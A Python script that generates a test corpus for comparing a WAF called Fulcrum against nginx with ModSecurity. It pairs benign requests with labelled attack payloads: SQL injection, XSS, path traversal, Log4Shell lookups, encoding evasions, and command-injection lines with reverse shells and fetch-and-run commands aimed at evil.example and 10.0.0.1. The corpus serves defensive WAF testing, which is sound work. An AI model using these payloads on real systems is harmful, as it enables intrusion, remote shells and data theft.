#!/usr/bin/env python3
"""Writes corpus.jsonl: the WAF comparison's requests (tests/e2e/test_waf_modsecurity.py).

One request a line: {"method", "target", "version", "headers": [[name, value], ...], "body",
"family"}. "family" names what the request is (benign shape or attack class); it is not sent.
Every request carries the headers it is sent with (Host, Connection: close, Content-Length for a
body), so nginx + ModSecurity and Fulcrum's WAF see the same bytes. Targets stay inside what
nginx accepts before ModSecurity runs (no path above the root, no TRACE, no header names with
underscores, HTTP/1.1 always with Host).

    python3 tests/data/waf/make_corpus.py > tests/data/waf/corpus.jsonl
"""
import json
import sys
from urllib.parse import quote, quote_plus

BROWSER = [
    ["Host", "localhost"],
    ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"],
    ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
    ["Accept-Language", "en-US,en;q=0.5"],
    ["Accept-Encoding", "gzip, deflate"],
    ["Connection", "close"],
]
CURL = [["Host", "localhost"], ["User-Agent", "curl/7.88.1"], ["Accept", "*/*"], ["Connection", "close"]]
API = [
    ["Host", "localhost"],
    ["User-Agent", "python-requests/2.28.1"],
    ["Accept", "application/json"],
    ["Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"],
    ["Connection", "close"],
]

out = []


def req(family, method, target, headers=None, body="", extra=(), version="1.1"):
    h = [list(x) for x in (headers if headers is not None else BROWSER)]
    h += [list(x) for x in extra]
    if body or method in ("POST", "PUT", "PATCH"):
        h.append(["Content-Length", str(len(body.encode()))])
    out.append({"family": family, "method": method, "target": target, "version": version,
                "headers": h, "body": body})


FORM = [["Content-Type", "application/x-www-form-urlencoded"]]
JSONCT = [["Content-Type", "application/json"]]

# ---- benign ---------------------------------------------------------------------------------
paths = [
    "/", "/index.html", "/about", "/about/team", "/products/123", "/products/123/reviews?page=2",
    "/api/v1/users?id=42&sort=asc", "/search?q=hello+world", "/search?q=caf%C3%A9+cr%C3%A8me",
    "/images/logo.png", "/static/js/app.min.js?v=1.2.3", "/static/css/site.css",
    "/blog/2024/05/my-first-post", "/download?file=report-2024.pdf", "/page?lang=en-US&tz=Europe%2FParis",
    "/a/b/c/d/e/f/g", "/cart?item=1&item=2&item=3", "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "/user/profile?tab=settings", "/health", "/robots.txt", "/favicon.ico", "/sitemap.xml",
    "/news?category=sports&date=2024-05-01", "/calendar?month=5&year=2024", "/docs/getting-started#install",
    "/search?q=what+is+a+select+statement", "/search?q=O%27Reilly+books", "/wiki/Main_Page",
    "/api/items?fields=id,name,price&limit=50&offset=100", "/track?lat=48.8566&lon=2.3522",
    "/files/2024/archive.tar.gz", "/shop/category/shoes?size=42&color=blue", "/u/jane.doe",
    "/search?q=c%2B%2B+templates", "/search?q=100%25+cotton", "/path/with-dash_and_underscore.html",
    "/api/v2/orders/98765/items/3", "/login?next=%2Fdashboard", "/?", "/emptyvalue?a=&b=", "/flag?debug",
    "/search?q=select+your+size", "/help?topic=union+membership", "/recipes?q=bread+and+butter",
    "/items?sort=-created_at", "/v/abc123DEF456", "/search?q=%E6%97%A5%E6%9C%AC", "/x?a=1;b=2",
    "/catalog/page/3/", "/assets/fonts/roboto.woff2",
]
for i, p in enumerate(paths):
    req("benign-get", "GET", p, [BROWSER, CURL, API][i % 3])
for p in paths[:12]:
    req("benign-head", "HEAD", p, CURL)
req("benign-options", "OPTIONS", "/api/v1/users", CURL)

cookies = [
    "session=8f14e45fceea167a5a36dedd4bea2543", "sid=abc123; theme=dark; lang=en",
    "_ga=GA1.2.1234567890.1600000000; _gid=GA1.2.987654321.1600000000",
    "cart=%7B%22items%22%3A%5B1%2C2%5D%7D", "prefs=fontsize:14|color:blue",
    "remember_me=true; csrftoken=Zx9yW8vU7tS6rQ5pO4nM3lK2jI1hG0fE",
]
for c in cookies:
    req("benign-cookie", "GET", "/account", BROWSER, extra=[["Cookie", c]])

forms = [
    "username=alice&password=correct+horse+battery+staple",
    "q=hello&page=1",
    "email=jane.doe%40example.com&subscribe=yes",
    "comment=I+really+love+this+product%21+It%27s+great+for+the+price.&rating=5",
    "first=John&last=Smith&address=221B+Baker+Street&city=London&zip=NW1+6XE",
    "title=Meeting+notes&body=We+discussed+the+roadmap+for+Q3+and+agreed+on+priorities.",
    "amount=19.99&currency=EUR&card=4111111111111111&exp=12%2F27",
    "tags=red&tags=green&tags=blue",
    "search=select+a+product+from+the+list",
    "message=Please+call+me+back+at+%2B33+1+23+45+67+89",
    "a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8",
    "note=Use+the+%22update%22+button+to+save.",
]
for f in forms:
    req("benign-form", "POST", "/submit", BROWSER, f, FORM)
jsons = [
    '{"name": "widget", "price": 9.99, "tags": ["a", "b"]}',
    '{"user": {"id": 42, "email": "x@example.com"}, "active": true}',
    '[1, 2, 3, 4]',
    '{"query": "select the best option", "limit": 10}',
]
for j in jsons:
    req("benign-json", "POST", "/api/v1/items", API, j, JSONCT)
req("benign-text", "POST", "/upload/notes", CURL, "just some plain text\nwith two lines\n",
    [["Content-Type", "text/plain"]])
req("benign-empty-post", "POST", "/ping", CURL, "", FORM)
req("benign-http10", "GET", "/", [["Host", "localhost"], ["User-Agent", "Wget/1.21"], ["Accept", "*/*"], ["Connection", "close"]], version="1.0")
req("benign-referer", "GET", "/page2", BROWSER, extra=[["Referer", "http://localhost/page1?x=1"]])
req("benign-xhr", "GET", "/api/poll?since=1700000000", BROWSER, extra=[["X-Requested-With", "XMLHttpRequest"]])
req("benign-range", "GET", "/video.mp4", CURL, extra=[["Range", "bytes=0-1023"]])
req("benign-if-none", "GET", "/style.css", BROWSER, extra=[["If-None-Match", '"abc123"'], ["Cache-Control", "max-age=0"]])

# ---- attacks ----------------------------------------------------------------------------------
families = {
    "sqli": [
        "1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "admin'--",
        "1; DROP TABLE users", "1 AND SLEEP(5)", "1' AND 1=CONVERT(int,@@version)--",
        "' or 1=1#", "1 or benchmark(10000000,MD5(1))", "1' union all select null,null,null--",
        "x' AND extractvalue(1,concat(0x7e,version()))--", "1;waitfor delay '0:0:5'--",
        "' having 1=1--", "1 order by 10--", "admin' /*", "-1' union select 1,group_concat(table_name) from information_schema.tables--",
        "1' and substring(@@version,1,1)='5", "'; exec master..xp_cmdshell 'dir'--",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
        "<svg onload=alert(1)>", "\"><script>alert('x')</script>", "<iframe src=\"http://evil.example/\"></iframe>",
        "<body onload=alert(1)>", "<a href=\"javascript:void(0)\" onclick=\"steal()\">x</a>",
        "<div style=\"background:url(javascript:alert(1))\">", "'-alert(1)-'", "<scr<script>ipt>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    ],
    "lfi": [
        "../../../../etc/passwd", "....//....//....//etc/passwd", "/etc/shadow", "..\\..\\..\\windows\\win.ini",
        "../../../../proc/self/environ", "..%2f..%2f..%2fetc%2fpasswd", "/var/log/apache2/access.log",
        "file:///etc/passwd", "../../../../../boot.ini", ".htaccess",
    ],
    "rfi": [
        "http://evil.example/shell.txt?", "http://192.168.1.10/x.php", "ftp://evil.example/backdoor.php?",
        "https://attacker.example/inc.txt??", "http://evil.example/c99.php%00",
    ],
    "rce": [
        ";cat /etc/passwd", "127.0.0.1|id", "$(whoami)", "`uname -a`", "; wget http://evil.example/x.sh -O /tmp/x.sh",
        "| nc -e /bin/sh 10.0.0.1 4444", "cmd.exe /c dir c:\\", "powershell -enc SQBFAFgA", "&& ls -la /",
        "; /bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "a;curl http://evil.example|sh", "|| ping -c 10 127.0.0.1",
    ],
    "php": [
        "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", "phpinfo()",
        "base64_decode('ZXZhbCgp')", "eval($_POST['x'])", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "$_SERVER['HTTP_HOST']", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "expect://id",
        "file_put_contents('s.php','x')", "allow_url_include=1", "zlib://shell.php",
    ],
    "java": [
        "${jndi:ldap://evil.example/a}", "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "${${lower:j}ndi:rmi://evil.example/x}", "java.lang.ProcessBuilder",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    ],
    "nodejs": [
        "require('child_process').exec('id')", "process.mainModule.require('fs')", "_$$ND_FUNC$$_function(){}()",
    ],
    "session": [
        "document.cookie=\"sessionid=1234\"", "<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">",
    ],
}
for fam, payloads in families.items():
    for i, p in enumerate(payloads):
        q = quote(p, safe="")
        req(f"{fam}-query", "GET", f"/search?q={q}", [BROWSER, CURL, API][i % 3])
        req(f"{fam}-form", "POST", "/submit", BROWSER, "name=test&comment=" + quote_plus(p), FORM)
        if i % 2 == 0:
            req(f"{fam}-cookie", "GET", "/account", BROWSER, extra=[["Cookie", "pref=" + quote(p, safe="")]])
        if i % 3 == 0:
            req(f"{fam}-argname", "GET", "/x?" + quote(p, safe="") + "=1", CURL)
        if i % 4 == 0:
            req(f"{fam}-referer", "GET", "/page", BROWSER, extra=[["Referer", "http://localhost/?q=" + p.replace("\\", "/")]])
        if i % 4 == 1:
            req(f"{fam}-json", "POST", "/api/v1/items", API, json.dumps({"q": p}), JSONCT)

# Scanners (913): user agents, headers, URLs.
for ua in ["Nikto/2.1.6", "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)",
           "masscan/1.3", "Nmap Scripting Engine", "DirBuster-1.0-RC1", "w3af.org", "Nessus SOAP",
           "WPScan v3.8.22", "gobuster/3.1.0", "python-requests/2.28.1", "Wget/1.21", "Go-http-client/1.1"]:
    req("scanner-ua", "GET", "/", [["Host", "localhost"], ["User-Agent", ua], ["Accept", "*/*"], ["Connection", "close"]])
req("scanner-header", "GET", "/", BROWSER, extra=[["Acunetix-Product", "WVS/5.0"]])
req("scanner-url", "GET", "/nessustest", CURL)
req("scanner-url", "GET", "/w00tw00t.at.ISC.SANS.DFind", CURL)

# Method enforcement (911) and protocol enforcement / attacks (920, 921).
for m in ["PUT", "DELETE", "PATCH", "PROPFIND", "FOO"]:
    req("method", m, "/resource/1", CURL, "x=1" if m in ("PUT", "PATCH") else "", FORM if m in ("PUT", "PATCH") else ())
req("proto-get-body", "GET", "/search?q=x", CURL, "a=b", FORM)
req("proto-numeric-host", "GET", "/", [["Host", "127.0.0.1"], ["User-Agent", "curl/7.88.1"], ["Accept", "*/*"], ["Connection", "close"]])
req("proto-no-ua", "GET", "/", [["Host", "localhost"], ["Accept", "*/*"], ["Connection", "close"]])
req("proto-no-accept", "GET", "/", [["Host", "localhost"], ["User-Agent", "curl/7.88.1"], ["Connection", "close"]])
req("proto-empty-ua", "GET", "/", [["Host", "localhost"], ["User-Agent", ""], ["Accept", "*/*"], ["Connection", "close"]])
req("proto-http10-nohost", "GET", "/", [["User-Agent", "curl/7.88.1"], ["Accept", "*/*"], ["Connection", "close"]], version="1.0")
req("proto-nul", "GET", "/search?q=abc%00def", CURL)
req("proto-bad-urlenc", "GET", "/search?q=%zz%1", CURL)
req("proto-bad-urlenc-body", "POST", "/submit", CURL, "q=%G1", FORM)
req("proto-ctype", "POST", "/submit", CURL, "a=b", [["Content-Type", "application/x-evil"]])
req("proto-ctype-charset", "POST", "/submit", CURL, "a=b", [["Content-Type", "application/x-www-form-urlencoded; charset=ibm037"]])
req("proto-restricted-ext", "GET", "/backup.sql", CURL)
req("proto-restricted-ext", "GET", "/config.ini", CURL)
req("proto-restricted-ext", "GET", "/site.bak", CURL)
req("proto-restricted-file", "GET", "/.htaccess", CURL)
req("proto-restricted-file", "GET", "/.git/config", CURL)
req("proto-restricted-file", "GET", "/web.config", CURL)
req("proto-restricted-header", "GET", "/", CURL, extra=[["Proxy", "http://evil.example"]])
req("proto-restricted-header", "GET", "/", CURL, extra=[["Lock-Token", "x"]])
req("proto-range", "GET", "/file", CURL, extra=[["Range", "bytes=0-,1-,2-,3-,4-,5-,6-,7-,8-,9-,10-,11-,12-,13-,14-,15-"]])
req("proto-range-start0", "GET", "/file", CURL, extra=[["Range", "bytes=10-1"]])
req("proto-multi-ctype", "POST", "/submit", CURL, "a=b", FORM + [["Content-Type", "text/plain"]])
req("proto-te-and-cl", "GET", "/", CURL, extra=[["Content-Type", "text/plain"]])
req("proto-crlf-arg", "GET", "/redirect?url=" + quote("http://localhost/\r\nSet-Cookie: a=b", safe=""), CURL)
req("proto-header-injection", "GET", "/x?h=" + quote("foo\r\nX-Injected: 1", safe=""), CURL)
req("proto-smuggling-body", "POST", "/submit", CURL, "a=1&b=" + quote_plus("\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n"), FORM)
req("proto-response-split", "GET", "/x?lang=" + quote("en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", safe=""), CURL)
req("proto-long-arg-name", "GET", "/x?" + "a" * 120 + "=1", CURL)
req("proto-utf8-overlong", "GET", "/x?q=%C0%AE%C0%AE%2F", CURL)
req("proto-unicode-pct-u", "GET", "/x?q=%u0027%u0020OR%u00201=1", CURL)
req("proto-fullwidth", "GET", "/x?q=%uff1cscript%uff1e", CURL)
req("proto-accept-encoding", "GET", "/", BROWSER[:4] + [["Accept-Encoding", "gzip" + ", deflate" * 30], ["Connection", "close"]])
req("proto-cookie-attack", "GET", "/", BROWSER, extra=[["Cookie", "a=1; $Version=1; b=<script>"]])
req("proto-many-args", "GET", "/x?" + "&".join(f"k{i}=v{i}" for i in range(60)), CURL)

# Evasions: encodings the CRS's transformations undo (urlDecodeUni, htmlEntityDecode, jsDecode,
# cssDecode, utf8toUnicode, replaceComments, cmdLine, normalisePath, removeNulls).
evasions = [
    ("xss-pct-u", "/x?q=%u003cscript%u003ealert(1)%u003c/script%u003e"),
    ("xss-double-enc", "/x?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("xss-entities", "/x?q=" + quote("&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", safe="")),
    ("xss-js-escapes", "/x?q=" + quote("\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", safe="")),
    ("xss-css-expression", "/x?q=" + quote("<div style=\"width:expression(alert(1))\">", safe="")),
    ("xss-overlong", "/x?q=%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be"),
    ("xss-fullwidth", "/x?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e"),
    ("xss-case", "/x?q=" + quote("<ScRiPt>alert(1)</sCrIpT>", safe="")),
    ("xss-nul", "/x?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E"),
    ("sqli-comments", "/x?id=" + quote("1/**/UNION/**/SELECT/**/1,2,3", safe="")),
    ("sqli-case", "/x?id=" + quote("1 UnIoN SeLeCt password FrOm users", safe="")),
    ("sqli-hex", "/x?id=" + quote("1 and 0x61646d696e=0x61646d696e", safe="")),
    ("sqli-pct-u", "/x?id=1%u0027%u0020or%u0020%u00271%u0027=%u00271"),
    ("sqli-mysql-comment", "/x?id=" + quote("1 /*!50000union*/ /*!50000select*/ 1", safe="")),
    ("rce-quotes", "/x?cmd=" + quote("c''at /e''tc/pa''ss''wd", safe="")),
    ("rce-ifs", "/x?cmd=" + quote(";cat$IFS/etc/passwd", safe="")),
    ("rce-backslash", "/x?cmd=" + quote(";w\\ho\\ami", safe="")),
    ("rce-caret", "/x?cmd=" + quote("& c^m^d /c di^r", safe="")),
    ("lfi-dot-slash", "/x?f=" + quote("/etc/./passwd", safe="")),
    ("lfi-double-slash", "/x?f=" + quote("/etc//passwd", safe="")),
    ("lfi-semicolon", "/x?f=" + quote("..;/..;/..;/etc/passwd", safe="")),
    ("lfi-pct-u", "/x?f=%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("lfi-backslash", "/x?f=" + quote("..\\..\\..\\..\\etc\\passwd", safe="")),
    ("php-spaces", "/x?c=" + quote("system ( 'id' ) ;", safe="")),
    ("php-wrapper-case", "/x?f=" + quote("PHP://input", safe="")),
    ("java-nested-lookup", "/x?q=" + quote("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}", safe="")),
]
for fam, target in evasions:
    req("evasion-" + fam, "GET", target, CURL)

# Attacks in other headers.
for name, value in [
    ("User-Agent", "Mozilla/5.0' OR 1=1--"),
    ("User-Agent", "<script>alert(1)</script>"),
    ("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    ("User-Agent", "${jndi:ldap://evil.example/a}"),
    ("Referer", "http://localhost/?q=1 UNION SELECT 1,2"),
    ("X-Forwarded-For", "127.0.0.1' AND SLEEP(5)--"),
    ("X-Api-Version", "${jndi:ldap://evil.example/x}"),
    ("X-Custom", "<svg/onload=alert(1)>"),
    ("Accept", "../../../../etc/passwd{{"),
]:
    h = [x for x in CURL if x[0] != name] + [[name, value]]
    req("header-attack", "GET", "/", h)

# Benign requests that look a little like attacks.
for target in [
    "/search?q=O%27Neil", "/search?q=Rock+%26+Roll", "/calc?expr=1%2B1%3D2",
    "/search?q=for+%28i%3D0%3Bi%3C10%3Bi%2B%2B%29", "/contact?email=jane%2Btag%40example.com",
    "/go?next=https%3A%2F%2Fexample.com%2Fpath%3Fx%3D1", "/search?q=select+all+that+apply",
    "/doc?title=The+Union+of+Two+Sets", "/api?data=eyJhIjoxfQ%3D%3D", "/files/report%20final%20(2).pdf",
    "/search?q=%22quoted+phrase%22", "/search?q=price+%3E+100+and+price+%3C+200", "/wiki/C%2B%2B",
    "/search?q=script+writing+tips", "/item?id=0042", "/tags/a-b_c.d~e",
]:
    req("benign-lookalike", "GET", target, BROWSER)
req("benign-lookalike-form", "POST", "/comment", BROWSER,
    "text=" + quote_plus("I think 5 > 3 and 2 < 4, don't you? Also: email me at a@b.co"), FORM)
req("benign-long-text", "POST", "/comment", BROWSER,
    "text=" + quote_plus("Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 40), FORM)
req("benign-json-nested", "POST", "/api/v1/items", API,
    json.dumps({"order": {"lines": [{"sku": "A-1", "qty": 2}, {"sku": "B-7", "qty": 1}],
                          "note": "leave at the door", "gift": False, "coupon": None}}), JSONCT)
req("benign-cookie-json", "GET", "/", BROWSER, extra=[["Cookie", "prefs=%7B%22a%22%3A1%7D; sid=xyz"]])
req("json-nested-attack", "POST", "/api/v1/items", API,
    json.dumps({"a": {"b": ["x", "<script>alert(1)</script>"]}}), JSONCT)
req("json-key-attack", "POST", "/api/v1/items", API, json.dumps({"1' OR '1'='1": "v"}), JSONCT)
req("json-invalid", "POST", "/api/v1/items", API, '{"a": 1,,}', JSONCT)
req("json-truncated", "POST", "/api/v1/items", API, '{"a": [1, 2', JSONCT)
req("xml-attack", "POST", "/api/soap", CURL, "<a><b>1' UNION SELECT password FROM users--</b></a>",
    [["Content-Type", "text/xml"]])
req("xml-benign", "POST", "/api/soap", CURL, "<a><b>hello</b></a>", [["Content-Type", "text/xml"]])
req("xml-attr-attack", "POST", "/api/soap", CURL, "<a href=\"javascript:alert(document.cookie)\">x</a>",
    [["Content-Type", "application/xml"]])
req("xml-invalid", "POST", "/api/soap", CURL, "<a><b>unclosed</a>", [["Content-Type", "text/xml"]])
req("form-many-values", "POST", "/submit", BROWSER,
    "&".join(f"f{i}=" + quote_plus(v) for i, v in enumerate(["<script>", "x' or 1=1--", "ok", "/etc/passwd"])), FORM)

for o in out:
    print(json.dumps(o, ensure_ascii=True))

print(f"{len(out)} requests", file=sys.stderr)
